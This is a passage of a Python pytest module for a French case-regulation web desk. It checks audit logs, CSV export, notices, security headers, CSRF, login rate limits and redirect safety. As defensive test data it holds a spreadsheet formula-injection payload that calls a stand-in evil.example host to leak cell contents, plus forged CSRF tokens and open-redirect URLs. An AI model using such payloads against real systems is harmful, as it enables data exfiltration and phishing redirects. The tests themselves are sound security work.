    page = web.client.get("/audit", params={"verify": "true"}).text
    found = re.search(r"Chaîne intègre : (\d+) événements, (\d+) chaînes vérifiées\.", page)
    assert found, page
    assert (found.group(1), found.group(2)) == ("4", "2")  # the case's 3, the failed login
    one = web.client.get("/audit", params={"verify": "true", "case": ref}).text
    # the case's 3, then the auditor's two reads of it (the search, the verification)
    assert "Chaîne intègre : 5 événements, 1 chaînes vérifiées." in one


def test_auditor_exports_csv(web: Web) -> None:
    """/audit/export answers a CSV attachment with the filtered events."""
    ref = drive(web.ctx, web.ctx.open(), ["escalate"]).reference
    web.ctx.open()
    web.login("auditeur")
    answer = web.client.get("/audit/export", params={"case": ref})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["action"] for r in rows] == ["opened", "transition", "read"]  # its own read last
    assert {r["case_id"] for r in rows} == {"1"}
    page = web.client.get("/audit", params={"case": ref}).text
    assert f'href="/audit/export?case={ref}"' in page


def test_regulator_gets_403_on_the_audit_pages_and_is_recorded(web: Web) -> None:
    """ars-occ on /audit or /audit/export: 403 page, a security 'refused' event each time."""
    web.ctx.open()
    web.login("ars-occ")
    page = web.client.get("/audit")
    export = web.client.get("/audit/export")
    assert page.status_code == export.status_code == 403
    assert "Action non permise" in page.text
    assert "opened" not in export.text
    refused = security_events(web.ctx, "refused")
    assert [(e.actor, data_of(e.data)["op"]) for e in refused] == [
        ("ars-occ", "read the audit log")
    ] * 2
    assert "Journal d&#39;audit" not in web.client.get("/").text  # no link for non-auditors


@pytest.mark.parametrize(
    "params",
    [{"since": "hier"}, {"until": "2026-13-40"}, {"since": "22/11/2026"}],
)
def test_bad_dates_give_a_french_422(web: Web, params: dict[str, str]) -> None:
    """A date that does not parse: 422 with a French message, on the page and on export."""
    web.login("auditeur")
    page = web.client.get("/audit", params=params)
    assert page.status_code == 422
    message = alert(page.text)
    assert "n'est pas une date" in message
    assert "AAAA-MM-JJ" in message
    export = web.client.get("/audit/export", params=params)
    assert export.status_code == 422
    assert "n'est pas une date" in alert(export.text)


def test_csv_export_neutralises_spreadsheet_formulas(web: Web) -> None:
    """A reason written as a spreadsheet formula is exported as inert text."""
    ref = web.ctx.open().reference
    web.ctx.runner.advance(
        reference=ref,
        trigger="escalate",
        login="etab-319900001",
        reason='=HYPERLINK("https://evil.example/?"&A1,"voir")',
    )
    web.login("auditeur")
    rows = list(csv.DictReader(io.StringIO(web.client.get("/audit/export").text)))
    assert not rows[-1]["reason"].startswith(("=", "+", "-", "@"))


# -- notices -----------------------------------------------------------------------------------


def test_notices_page_without_notices(web: Web) -> None:
    """No notice in scope: the page says so."""
    web.ctx.open()
    web.login("ars-occ")
    page = web.client.get("/notices")
    assert page.status_code == 200
    assert "Aucun message dans votre périmètre." in page.text


def test_notices_page_lists_notices_in_scope_with_their_delivery_state(
    web: Web, tmp_path: Path
) -> None:
    """Queued then sent notices of the caller's region are listed; Paris's are not."""
    outbox = Outbox(web.ctx.registry, default_notices(), channel_for=lambda _org: "eml")
    noticing = Ctx(
        web.ctx.db, Runner(
            web.ctx.db, web.ctx.registry, web.ctx.clock, notifier=outbox, rules=CONFIRMS
        ),
        web.ctx.clock, web.ctx.registry,
    )  # fmt: skip
    toulouse = drive(noticing, noticing.open(), ["escalate"])
    paris = umac_case(noticing, IDF_HOSPITAL)
    with web.ctx.db.read() as conn:
        refs = dict(
            conn.execute(sa.text("SELECT case_id, reference FROM notice ORDER BY id")).all()
        )
    assert set(refs) == {toulouse.id, paris.id}
    web.login("ars-occ")
    page = web.client.get("/notices").text
    assert refs[toulouse.id] in page
    assert refs[paris.id] not in page
    assert '<tr class="n-queued">' in page
    assert "en attente" in page
    dispatch(web.ctx.db, web.ctx.clock, {"eml": EmlChannel(tmp_path / "out")})
    sent = web.client.get("/notices").text
    assert '<tr class="n-sent">' in sent
    assert "envoyé" in sent
    assert "Aucun message" in web.client.get("/notices", params={"status": "failed"}).text
    case_page = page_of(web, toulouse.reference)
    assert refs[toulouse.id] in case_page
    assert "envoyé" in case_page


# -- headers, unknown routes, language ---------------------------------------------------------


def test_desk_pages_carry_security_headers(web: Web) -> None:
    """Every desk answer: CSP, X-Frame-Options DENY, Cache-Control no-store, nosniff."""
    ref = web.ctx.open().reference
    answers = [web.client.get("/login")]
    web.login("etab-319900001")
    answers += [
        web.client.get("/"),
        web.client.get(f"/cases/{ref}"),
        web.client.get("/notices"),
        web.client.get("/nowhere"),
        web.client.get("/audit"),
        fire(web, None, ref, "escalate", version=1),
    ]
    for answer in answers:
        headers = answer.headers
        where = (answer.request.url.path, answer.status_code)
        assert "default-src 'none'" in headers["content-security-policy"], where
        assert "frame-ancestors 'none'" in headers["content-security-policy"], where
        assert headers["x-frame-options"] == "DENY", where
        assert headers["cache-control"] == "no-store", where
        assert headers["x-content-type-options"] == "nosniff", where


def test_unknown_desk_route_is_a_french_404_page(web: Web) -> None:
    """An unknown path outside /api: a French HTML 404 page, not JSON."""
    for logged_in in (False, True):
        if logged_in:
            web.login("ccs")
        answer = web.client.get("/nowhere/at/all")
        assert answer.status_code == 404
        assert answer.headers["content-type"].startswith("text/html")
        assert "Cette page n&#39;existe pas." in answer.text
        assert "Introuvable" in answer.text
        assert '<html lang="fr">' in answer.text


def test_desk_messages_are_in_french(web: Web) -> None:
    """Wrong password, expired session, stale version, refusal: the desk explains in French."""
    ref = web.ctx.open().reference
    web.accounts.set_password("etab-319900001", PASSWORD)
    csrf = hidden(web.client.get("/login").text, "csrf")
    shown = {
        "wrong password": alert(
            web.client.post(
                "/login", data={"login": "etab-319900001", "password": "nope", "csrf": csrf}
            ).text
        )
    }
    token = web.login("etab-319900001")
    shown["stale version"] = alert(fire(web, token, ref, "escalate", version=7).text)
    shown["no reason"] = alert(fire(web, token, ref, "escalate", version=1, reason="").text)
    shown["not possible"] = alert(fire(web, token, ref, "resolve", version=1).text)
    web.ctx.clock.advance(timedelta(minutes=31))
    shown["idle session"] = redirected_to_login(web.client.get("/", follow_redirects=False))
    english = {what: text for what, text in shown.items() if ENGLISH_WORDS.search(text)}
    assert not english, english
    assert not any("regul " in text for text in shown.values())


# -- hardening (issue 15): login CSRF, concurrent guesses, API docs, errors, kept forms --------


@pytest.mark.parametrize(
    "token",
    [
        pytest.param("forged-token", id="made-up"),
        pytest.param("AAAAAAAAAAAAAAAAAAAAAAAA.1795334400.00", id="token-shaped"),
        pytest.param("expired", id="genuine-but-expired"),
    ],
)
def test_login_csrf_pair_made_up_by_an_attacker_is_refused(web: Web, token: str) -> None:
    """A cookie and form field that agree but were not signed by Régul (or are stale): 403."""
    web.accounts.set_password("umac-sud", PASSWORD)
    if token == "expired":
        token = hidden(web.client.get("/login").text, "csrf")
        web.ctx.clock.advance(timedelta(hours=1, minutes=1))
    web.client.cookies.clear()
    answer = web.client.post(
        "/login",
        data={"login": "umac-sud", "password": PASSWORD, "csrf": token},
        headers={"Cookie": f"regul_login_csrf={token}"},
        follow_redirects=False,
    )
    assert answer.status_code == 403
    assert "CSRF" in alert(answer.text)
    assert web.ctx.count("regul_session") == 0
    assert web.ctx.count("login_attempt") == 0  # refused before any password was looked at


def test_forty_simultaneous_logins_check_at_most_five_guesses(web: Web) -> None:
    """40 POST /login at once from one address (39 wrong, 1 right): 5 wrong ones checked at most."""
    import threading

    from engine.accounts import FREE_GUESSES

    web.accounts.set_password("ars-occ", PASSWORD)
    token = hidden(web.client.get("/login").text, "csrf")
    web.client.post("/login", data={"login": "nobody", "password": "x" * 12, "csrf": token})
    start, codes = threading.Barrier(40), []

    def attempt(password: str) -> None:
        start.wait()
        answer = web.client.post(
            "/login",
            data={"login": "ars-occ", "password": password, "csrf": token},
            follow_redirects=False,
        )
        codes.append(answer.status_code)

    passwords = [f"guess number {i}" for i in range(39)] + [PASSWORD]
    threads = [threading.Thread(target=attempt, args=(p,)) for p in passwords]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(codes) == 40
    failed = [e for e in security_events(web.ctx, "login_failed") if e.actor == "ars-occ"]
    assert len(failed) == codes.count(401) <= FREE_GUESSES
    assert codes.count(429) >= 40 - FREE_GUESSES - 1
    assert web.ctx.count("regul_session") == codes.count(303) <= 1


def test_api_docs_use_only_their_own_assets_under_a_strict_csp(web: Web) -> None:
    """/api/docs loads Swagger UI from Régul (no CDN, no inline script), and each asset answers."""
    page = web.client.get("/api/docs")
    assert page.status_code == 200
    policy = page.headers["content-security-policy"]
    assert "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy
    assert "http" not in policy
    assert "script-src 'self'" in policy
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", page.text, re.S)
    assert scripts
    assert all(body.strip() == "" for _, body in scripts)  # no inline code
    assets = [re.search(r'src="([^"]+)"', attrs).group(1) for attrs, _ in scripts]  # type: ignore[union-attr]
    assets += re.findall(r'<link[^>]*href="([^"]+)"', page.text)
    assert len(assets) == 3
    for url in assets:
        assert url.startswith("/"), url
        assert not url.startswith("//"), url
        answer = web.client.get(url)
        assert answer.status_code == 200, url
        assert answer.headers["content-type"].split(";")[0] in {"text/css", "text/javascript"}
    assert len(web.client.get("/api/docs/swagger-ui-bundle.js").content) > 100_000
    assert "/openapi.json" in web.client.get("/api/docs/init.js").text
    assert web.client.get("/api/docs/..%2Fpyproject.toml").status_code == 404
    assert web.client.get("/api/docs/index.html").status_code == 404


def test_unexpected_error_on_a_desk_page_is_a_french_page_without_trace(
    web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bug behind a desk page: 500 in French, no trace nor exception text; the API keeps JSON."""

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("secret internals at engine/cases.py line 42")

    web.login("ars-occ")
    monkeypatch.setattr(web.ctx.runner, "search", broken)
    answer = web.client.get("/")
    assert answer.status_code == 500
    assert answer.headers["content-type"].startswith("text/html")
    assert "inattendue" in alert(answer.text)
    for leak in ("RuntimeError", "secret internals", "Traceback", '"detail"'):
        assert leak not in answer.text
    api = web.client.get("/api/v1/cases", headers=web.token("ars-occ"))
    assert api.status_code == 500
    assert api.headers["content-type"] == "application/problem+json"


def test_reason_typed_before_the_session_expired_is_back_after_login(web: Web) -> None:
    """Session expired while typing: after login the form is filled in again, nothing replayed."""
    case = umac_case(web.ctx)
    ref = case.reference
    csrf = web.login("umac-sud")
    web.ctx.clock.advance(timedelta(minutes=31))
    before = web.ctx.runner.show(ref)
    reason = "Console indisponible à l'UMAC, escalade vers l'ARS <b>urgent</b>"
    answer = fire(web, csrf, ref, "escalate", version=case.version, reason=reason)
    assert "inactivité" in redirected_to_login(answer)
    target = urlsplit(answer.headers["location"])
    assert parse_qs(target.query)["next"] == [f"/cases/{ref}"]
    assert reason not in answer.headers["location"]  # the reason stays on the server
    page = web.client.get(answer.headers["location"])
    assert "conservée" in page.text
    logged = web.client.post(
        "/login",
        data={
            "login": "umac-sud",
            "password": PASSWORD,
            "csrf": hidden(page.text, "csrf"),
            "next": hidden(page.text, "next"),
        },
        follow_redirects=False,
    )
    assert logged.headers["location"] == f"/cases/{ref}"
    back = web.client.get(f"/cases/{ref}")
    assert "<b>urgent" not in back.text  # shown as text
    assert reason in html.unescape(back.text)
    assert "relisez-la" in back.text
    after = web.ctx.runner.show(ref)
    assert (after.state, after.version) == (before.state, before.version)  # never replayed
    assert reason not in html.unescape(web.client.get(f"/cases/{ref}").text)  # handed back once


def test_a_kept_form_goes_only_to_its_author(web: Web) -> None:
    """Another user logging in on the same browser does not get the expired session's form."""
    case = umac_case(web.ctx)
    csrf = web.login("umac-sud")
    web.ctx.clock.advance(timedelta(minutes=31))
    fire(web, csrf, case.reference, "escalate", version=case.version, reason="motif privé")
    assert web.ctx.count("desk_draft") == 1
    web.login("ccs")
    assert "motif privé" not in web.client.get(f"/cases/{case.reference}").text
    assert web.ctx.count("desk_draft") == 1


def test_login_next_goes_only_to_desk_pages(web: Web) -> None:
    """After login, ``next`` leads to a case or new-case page, never elsewhere."""
    home = "/situation"  # where a regulator lands by default
    for given, expected in (("https://evil.example/", home), ("//evil.example", home),
                            ("/audit/export", home), ("/new/ecmo", "/new/ecmo")):  # fmt: skip
        web.client.cookies.clear()
        web.accounts.set_password("ars-occ", PASSWORD)
        page = web.client.get("/login", params={"next": given})
        answer = web.client.post(
            "/login",
            data={"login": "ars-occ", "password": PASSWORD, "csrf": hidden(page.text, "csrf"),
                  "next": given},
            follow_redirects=False,
        )  # fmt: skip
        assert answer.headers["location"] == expected
